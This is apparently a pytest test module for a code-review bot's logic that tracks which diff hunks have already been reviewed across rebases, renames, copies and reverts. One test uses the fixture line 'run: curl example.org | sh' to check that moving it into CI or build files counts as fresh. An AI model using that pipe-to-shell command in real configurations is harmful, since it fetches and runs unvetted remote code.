from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.domain.diff import Diff, FileDiff, FileStatus, Side
from bot.domain.finding import LineRange
from tests.support.changes import Versions, diff_of, file_of, texts_of
from workers.ports import Image
from workers.review.delta import MODEL, STATIC, Delta, delta_at_rest, delta_of, hunk_marks, without_text

FILLER = "".join(f"filler_{number} = {number}\n" for number in range(20))
BASE = f"x = 1\n{FILLER}y = 1\n"
HEAD = f"x = 2\n{FILLER}y = 2\n"
FILES: Versions = {"app/a.py": (BASE, HEAD)}


def read(files: Versions, reader: str = MODEL) -> frozenset[str]:
    """Marks of everything in a change."""
    made = diff_of(files)
    delta = delta_of(made, reader=reader, texts=texts_of(files))
    return frozenset(delta.read_with(file.path for file in made.files))


def since(before: Versions, now: Versions) -> Delta:
    return delta_of(diff_of(now), read(before), texts=texts_of(now))


def test_before_anything_was_read_everything_is_fresh() -> None:
    delta = delta_of(diff_of(FILES))
    assert [len(hunks) for hunks in delta.fresh.values()] == [2]
    assert delta.read_with(()) == ()
    assert len(delta.read_with(["app/a.py"])) == 2


def test_a_change_that_is_as_it_was_has_nothing_fresh() -> None:
    delta = since(FILES, FILES)
    assert not delta.fresh
    assert not delta.is_fresh("app/a.py")
    assert (delta.shrunk, delta.reverted) == (frozenset(), False)
    assert delta.read_with(()) == tuple(sorted(read(FILES)))


@given(above=st.integers(0, 30), between=st.integers(0, 30))
def test_lines_that_move_leave_marks_as_they_are(above: int, between: int) -> None:
    def text(x: int, y: int, above: int = 0, between: int = 0) -> str:
        return "".join(
            ("a = 0\n" * above, FILLER, f"x = {x}\n", FILLER, "b = 0\n" * between, FILLER, f"y = {y}\n")
        )

    rebased = since(
        {"a.py": (text(1, 1), text(2, 2))}, {"a.py": (text(1, 1, above, between), text(2, 2, above, between))}
    )
    assert not rebased.fresh
    assert not rebased.shrunk
    drifted = since({"a.py": (text(1, 1), text(2, 2))}, {"a.py": (text(1, 1), text(2, 2, above, between))})
    assert len(drifted.fresh.get("a.py", ())) == bool(above) + bool(between)


def test_what_git_prints_behind_a_hunks_numbers_counts_where_the_text_is_not_known() -> None:
    file = file_of("a.py", BASE, HEAD)
    headed = replace(file, hunks=tuple(replace(hunk, heading="def f():") for hunk in file.hunks))
    assert hunk_marks(headed, text=HEAD) == hunk_marks(file, text=HEAD)
    assert set(hunk_marks(headed)).isdisjoint(hunk_marks(file))


BODY = "".join(f"    step_{number}(user)\n" for number in range(6))
GUEST = "    allow(user)\n"


def within(*heads: str, at: int, end: str = "", suffix: str = "py") -> Versions:
    """Blocks with the same lines, to one of which the change adds a line."""
    base = [f"{head}\n{BODY}{end}" for head in heads]
    head = [
        text.replace("    step_3", f"{GUEST}    step_3") if at == n else text for n, text in enumerate(base)
    ]
    return {f"a.{suffix}": ("\n\n".join(base), "\n\n".join(head))}


@pytest.mark.parametrize(
    ("heads", "end", "suffix"),
    [
        (("def can_view(user):", "def can_delete(user):"), "", "py"),
        (("function canView(user) {", "function canDelete(user) {"), "}\n", "js"),
        (('app.get("/", (user) => {', 'app.get("/admin", (user) => {'), "})\n", "js"),
        (("boolean can(Guest user) {", "boolean can(Admin user) {"), "}\n", "java"),
        (("fun canView(user: User) {", "fun canDelete(user: User) {"), "}\n", "kt"),
        (("test:", "deploy:"), "", "yml"),
        (("if user.is_admin:", "if user.is_guest:"), "", "py"),
    ],
    ids=["functions", "braces", "handlers", "overloads", "no-grammar", "keys", "conditions"],
)
def test_lines_that_were_read_are_fresh_in_another_place_of_their_file(
    heads: tuple[str, ...], end: str, suffix: str
) -> None:
    before = within(*heads, at=0, end=end, suffix=suffix)
    assert not since(before, within(*heads, at=0, end=end, suffix=suffix)).fresh
    assert list(since(before, within(*heads, at=1, end=end, suffix=suffix)).fresh) == [f"a.{suffix}"]


IN_VIEW, IN_DELETE = (within("def can_view(user):", "def can_delete(user):", at=n) for n in (0, 1))


def test_what_was_read_is_kept_while_the_text_of_its_file_cannot_be_had() -> None:
    marks = read(IN_VIEW)
    blind = delta_of(diff_of(IN_VIEW), marks, unknown=["a.py"])
    assert list(blind.fresh) == ["a.py"]
    assert not blind.read
    assert (blind.altered, blind.reverted, blind.has_lost("a.py")) == (False, False, False)
    assert not blind.is_everything
    kept = frozenset(blind.read_with(()))
    assert delta_of(diff_of(IN_VIEW), kept, unknown=["a.py"]).read_with(()) == tuple(sorted(kept))
    again = delta_of(diff_of(IN_VIEW), kept, texts=texts_of(IN_VIEW))
    assert (again.fresh, again.altered) == ({}, False)
    assert set(again.read_with(())) == marks


def test_what_is_kept_counts_as_read_in_its_own_place_alone() -> None:
    kept = frozenset(delta_of(diff_of(IN_DELETE), read(IN_VIEW), unknown=["a.py"]).read_with(()))
    assert list(delta_of(diff_of(IN_DELETE), kept, texts=texts_of(IN_DELETE)).fresh) == ["a.py"]
    at_rest = delta_at_rest(diff_of(IN_DELETE), kept, unknown=["a.py"])
    assert list(at_rest.fresh) == ["a.py"]


def test_without_a_text_only_what_a_file_begins_with_is_in_a_known_place() -> None:
    renamed: Versions = {"app/b.py": FILES["app/a.py"]}
    for now in (FILES, renamed):
        [path] = now
        assert not delta_of(diff_of(now), read(FILES)).fresh
        delta = delta_of(diff_of(now), read(FILES), unknown=now)
        assert [hunk.new_start for hunk in delta.fresh[path]] == [19]
        assert (len(delta.read), len(delta.kept), delta.altered) == (1, 1, False)
        assert len(delta.read_with(now)) == 2


def test_marks_that_make_no_sense_stand_for_no_unknown_place() -> None:
    odd = frozenset({"odd", *hunk_marks(file_of("a.py", *IN_VIEW["a.py"]), text=None)})
    assert delta_of(diff_of(IN_VIEW), odd, unknown=["a.py"]).fresh
    assert delta_at_rest(diff_of(IN_VIEW), odd, unknown=["a.py"]).fresh


def test_a_file_that_is_renamed_while_its_text_cannot_be_had_is_read_under_its_new_name() -> None:
    renamed: Versions = {"b.py": IN_VIEW["a.py"]}
    blind = delta_of(diff_of(renamed), read(IN_VIEW), unknown=["b.py"])
    assert (list(blind.fresh), blind.altered, blind.has_lost("a.py")) == (["b.py"], False, False)
    kept = frozenset(blind.read_with(()))
    assert set(delta_of(diff_of(renamed), kept, texts=texts_of(renamed)).read_with(())) == read(renamed)


def test_what_other_files_have_lost_is_told_though_the_text_of_one_cannot_be_had() -> None:
    before: Versions = {**FILES, "b.py": IN_VIEW["a.py"]}
    now: Versions = {"app/a.py": (BASE, HEAD.replace("y = 2", "y = 1")), "b.py": IN_VIEW["a.py"]}
    delta = delta_of(diff_of(now), read(before), texts=texts_of(now), unknown=["b.py"])
    assert (delta.lost, delta.reverted, delta.has_lost("b.py")) == ({"app/a.py"}, True, False)
    copied: Versions = {"app/a.py": (BASE, BASE.replace("y = 1", "y = 3")), "b.py": FILES["app/a.py"]}
    assert delta_of(diff_of(copied), read(FILES), unknown=["b.py"]).has_lost("app/a.py")


def test_at_rest_the_lines_speak_where_the_text_cannot_be_had() -> None:
    marks = read(IN_VIEW)
    assert not delta_at_rest(diff_of(IN_VIEW), marks, texts=texts_of(IN_VIEW)).fresh
    at_rest = delta_at_rest(diff_of(IN_VIEW), marks, unknown=["a.py"])
    assert (at_rest.fresh, at_rest.altered, at_rest.read) == ({}, False, marks)
    assert delta_at_rest(diff_of({"a.py": (None, "x = 1\n")}), marks, unknown=["a.py"]).fresh
    assert delta_at_rest(diff_of({"b.py": IN_VIEW["a.py"]}), marks, unknown=["b.py"]).fresh


def test_at_rest_lines_that_were_read_once_speak_for_one_of_two_hunks() -> None:
    [(path, (base, _))] = IN_VIEW.items()
    both = diff_of({path: (base, str(base).replace("    step_3", f"{GUEST}    step_3"))})
    assert len(both.files[0].hunks) == 2
    assert [len(hunks) for hunks in delta_at_rest(both, read(IN_VIEW), unknown=[path]).fresh.values()] == [1]


def test_marks_that_tell_nothing_of_lines_alone_still_tell_what_was_read() -> None:
    old = frozenset(mark.rpartition("-")[0] for mark in read(IN_VIEW))
    delta = delta_of(diff_of(IN_VIEW), old, texts=texts_of(IN_VIEW))
    assert (delta.fresh, delta.altered) == ({}, False)
    assert set(delta.read_with(())) == read(IN_VIEW)
    assert delta_at_rest(diff_of(IN_VIEW), old, unknown=["a.py"]).fresh


def test_a_text_that_is_empty_is_known() -> None:
    assert without_text(["a.py", "b.py", "c.py"], {"a.py": "", "b.py": None}) == {"b.py", "c.py"}
    assert without_text(["a.py"], None) == {"a.py"}


def test_code_that_nobody_indents_has_its_places_too() -> None:
    def flat(at: int) -> Versions:
        return {
            path: (base and base.replace("    ", ""), head and head.replace("    ", ""))
            for path, (base, head) in within(
                "int view() {", "int drop() {", at=at, end="}\n", suffix="c"
            ).items()
        }

    assert not since(flat(0), flat(0)).fresh
    assert since(flat(0), flat(1)).fresh


def test_a_function_inside_of_another_is_known_by_both_names() -> None:
    def nested(at: int) -> Versions:
        heads = [f"def {name}(user):\n    def wrapper():" for name in ("view", "delete")]
        [(path, texts)] = within(*heads, at=at).items()
        base, head = (
            str(text).replace("    step", "        step").replace(GUEST, f"    {GUEST}") for text in texts
        )
        return {path: (base, head)}

    assert not since(nested(0), nested(0)).fresh
    assert since(nested(0), nested(1)).fresh


def test_a_new_parameter_of_the_function_around_it_leaves_a_hunk_as_it_was() -> None:
    [(path, (base, head))] = within("def can_view(user):\n    x = 1\n    y = 1\n    z = 1", at=0).items()
    again = str(head).replace("(user):", "(user, item):")
    assert len(since({path: (base, head)}, {path: (base, again)}).fresh[path]) == 1


def test_marks_of_a_release_before_are_none_and_do_no_harm() -> None:
    old = frozenset({"0" * 12 + "-" + "1" * 32, "2" * 12 + "-" + "3" * 32, "odd"})
    delta = delta_of(diff_of(FILES), old, texts=texts_of(FILES))
    assert [len(hunks) for hunks in delta.fresh.values()] == [2]
    assert set(delta.read_with(["app/a.py"])) == read(FILES)


def test_only_the_hunk_that_somebody_wrote_on_is_fresh() -> None:
    delta = since(FILES, {"app/a.py": (BASE, HEAD.replace("y = 2", "y = 3"))})
    [hunk] = delta.fresh["app/a.py"]
    assert hunk.new_start > 10
    assert delta.touches("app/a.py", LineRange(22, 22))
    assert delta.touches("app/a.py", LineRange(22, 22, Side.LEFT))
    assert not delta.touches("app/a.py", LineRange(1, 1))
    assert not delta.touches("app/b.py", LineRange(22, 22))
    assert not delta.touches("app/a.py", None)
    assert delta.shrunk == {"app/a.py"}
    assert not delta.reverted


def test_a_file_that_was_renamed_is_not_fresh() -> None:
    delta = since(FILES, {"app/b.py": (BASE, HEAD)})
    assert not delta.fresh
    assert [len(hunks) for hunks in delta.moved.values()] == [2]
    assert not delta.reverted
    assert set(delta.read_with(())) == read({"app/b.py": (BASE, HEAD)})


def test_a_copy_of_what_was_read_is_fresh() -> None:
    delta = since(FILES, {**FILES, "app/b.py": (BASE, HEAD)})
    assert list(delta.fresh) == ["app/b.py"]


def test_of_two_copies_of_a_file_that_is_gone_one_is_fresh() -> None:
    delta = since(FILES, {"app/b.py": (BASE, HEAD), "app/c.py": (BASE, HEAD)})
    assert list(delta.fresh) == ["app/c.py"]


def test_the_same_lines_once_more_in_a_file_are_fresh() -> None:
    body = "".join(f"    step_{number}()\n" for number in range(8))
    base, once = f"{body}a()\n{body}{body}a()\n{body}", f"{body}b()\n{body}{body}a()\n{body}"
    twice = f"{body}b()\n{body}{body}b()\n{body}"
    delta = since({"a.py": (base, once)}, {"a.py": (base, twice)})
    assert len(delta.fresh["a.py"]) == 1


def test_lines_that_move_to_where_they_can_do_more_harm_are_fresh() -> None:
    base, head = None, "run: curl example.org | sh\n"
    for before, now in (
        ("docs/example.yml", ".github/workflows/ci.yml"),
        ("docs/example.txt", "docs/example.sh"),
        ("tests/test_shop.py", "shop/shop.py"),
        ("samples/a.py", "app/auth.py"),
        ("a.py", "app/a.py"),
        ("tools/a.py", "tools/setup.py"),
        ("setup.py/a.py", "setup.py"),
        ("web/a.js", "web/webpack.config.js"),
    ):
        assert since({before: (base, head)}, {now: (base, head)}).fresh, now
    for before, now in (
        ("docs/example.yml", "docs/other.yml"),
        ("app/a.py", "app/shop/b.py"),
        ("a.py", "b.py"),
        ("tools/setup.py", "tools/build/setup.py"),
    ):
        assert not since({before: (base, head)}, {now: (base, head)}).fresh, now


def test_what_analysers_read_no_model_has_read() -> None:
    assert delta_of(diff_of(FILES), read(FILES, STATIC)).fresh
    assert delta_of(diff_of(FILES), read(FILES, MODEL), STATIC).fresh


def test_what_is_gone_from_the_change_is_forgotten() -> None:
    more: Versions = {**FILES, "app/b.py": ("z = 1\n", "z = 2\n")}
    delta = since(more, FILES)
    assert delta.reverted
    assert set(delta.read_with(())) == read(FILES)
    back = delta_of(diff_of(more), frozenset(delta.read_with(())))
    assert list(back.fresh) == ["app/b.py"]


def test_a_hunk_that_is_taken_back_is_told() -> None:
    delta = since(FILES, {"app/a.py": (BASE, HEAD.replace("y = 2", "y = 1"))})
    assert not delta.fresh
    assert delta.shrunk == {"app/a.py"}
    assert delta.reverted


def test_the_words_of_fresh_hunks_are_known_those_of_their_function_too() -> None:
    file = file_of("a.py", "limit = old(1)\n", "limit = cap(1)\n")
    headed = replace(file, hunks=(replace(file.hunks[0], heading="def basket():"),))
    assert delta_of(Diff((headed,))).words == {"a.py": {"limit", "old", "cap", "1", "def", "basket"}}


def test_files_without_hunks_have_no_marks_and_lose_none() -> None:
    bare = (
        FileDiff("logo.png", FileStatus.MODIFIED, is_binary=True),
        FileDiff("run.sh", FileStatus.MODE_CHANGED),
        FileDiff("new.py", FileStatus.RENAMED, old_path="old.py"),
        FileDiff("huge.py", FileStatus.MODIFIED, unread="too large"),
    )
    delta = delta_of(Diff((*diff_of(FILES).files, *bare)), read(FILES))
    assert not delta.fresh
    assert delta.read_with(file.path for file in bare) == tuple(sorted(read(FILES)))


def test_names_that_are_no_text_have_marks() -> None:
    odd = replace(file_of("a.py", "x = 1\n", "x = 2\n"), path="\udcff.py")
    assert len(delta_of(Diff((odd,))).read_with(["\udcff.py"])) == 1


def test_a_name_that_a_listing_has_twice_is_taken_once() -> None:
    one, two = file_of("a.py", "x = 1\n", "x = 2\n"), file_of("a.py", BASE, HEAD)
    assert len(delta_of(Diff((one, two))).read_with(["a.py"])) == 2


def test_a_file_from_which_a_hunk_is_taken_back_is_to_be_read_again() -> None:
    delta = since(FILES, {"app/a.py": (BASE, HEAD.replace("y = 2", "y = 1"))})
    assert (delta.lost, delta.is_to_read("app/a.py")) == ({"app/a.py"}, True)
    renamed = since(FILES, {"app/b.py": (BASE, HEAD.replace("y = 2", "y = 1"))})
    assert (renamed.lost, renamed.is_fresh("app/b.py")) == ({"app/b.py"}, False)
    changed = since(FILES, {"app/a.py": (BASE, HEAD.replace("y = 2", "y = 3"))})
    assert (changed.lost, changed.altered, changed.reverted) == (frozenset(), True, False)


def test_a_rename_alters_nothing() -> None:
    delta = since(FILES, {"app/b.py": (BASE, HEAD)})
    assert (delta.altered, delta.reverted, delta.lost) == (False, False, frozenset())


def test_nothing_is_known_before_a_first_review() -> None:
    assert delta_of(diff_of(FILES)).is_everything
    assert not since(FILES, FILES).is_everything
    assert not since(FILES, {"app/a.py": (BASE, HEAD.replace("2", "3"))}).is_everything


def test_files_may_be_new_to_the_change_or_parts_of_them() -> None:
    delta = since(FILES, {"app/a.py": (BASE, HEAD.replace("y = 2", "y = 3")), "app/c.py": (None, "z = 1\n")})
    assert [path for path in delta.marks if delta.is_new_file(path)] == ["app/c.py"]
    assert not delta.is_new_file("app/else.py")
    assert delta.is_new_in("app/c.py", LineRange(1, 1))
    assert not delta.is_new_in("app/a.py", LineRange(1, 1))


def test_a_changed_picture_is_read_as_it_is() -> None:
    diff = Diff((FileDiff("a.png", FileStatus.MODIFIED, is_binary=True), *diff_of(FILES).files))
    picture, other = Image("a.png", "image/png", b"1"), Image("https://example.org/b.png", "image/png", b"2")
    delta = delta_of(diff, images=[picture, other])
    assert list(delta.pictures) == ["a.png"]
    seen = frozenset(delta.read_with(["a.png"]))
    assert delta_of(diff, seen, images=[picture]).has_seen("a.png")
    assert not delta_of(diff, seen, images=[replace(picture, data=b"3")]).has_seen("a.png")
    assert not delta_of(diff, seen, images=[other]).has_seen(other.name)


def test_a_file_with_something_fresh_is_not_read_as_one_that_only_lost_something() -> None:
    three = f"{HEAD}{FILLER}z = 2\n"
    base = f"{BASE}{FILLER}z = 1\n"
    before: Versions = {"app/a.py": (base, three)}
    now: Versions = {"app/a.py": (base, three.replace("y = 2", "y = 1").replace("z = 2", "z = 3"))}
    delta = since(before, now)
    assert delta.is_fresh("app/a.py")
    assert (delta.lost, delta.reverted) == (frozenset(), True)


def test_what_a_file_has_lost_is_known_though_it_left_the_change_and_a_rename_loses_nothing() -> None:
    assert since(FILES, {}).has_lost("app/a.py")
    assert since(FILES, {"app/a.py": (BASE, HEAD.replace("y = 2", "y = 3"))}).has_lost("app/a.py")
    assert not since(FILES, {**FILES, "app/c.py": (None, "z = 1\n")}).has_lost("app/a.py")
    renamed = since(FILES, {"app/b.py": (BASE, HEAD)})
    assert not renamed.has_lost("app/a.py")
    assert renamed.now("app/a.py") == {"app/b.py"}
    assert since(FILES, FILES).now("app/a.py") == {"app/a.py"}
    assert since(FILES, {}).now("app/a.py") == frozenset()
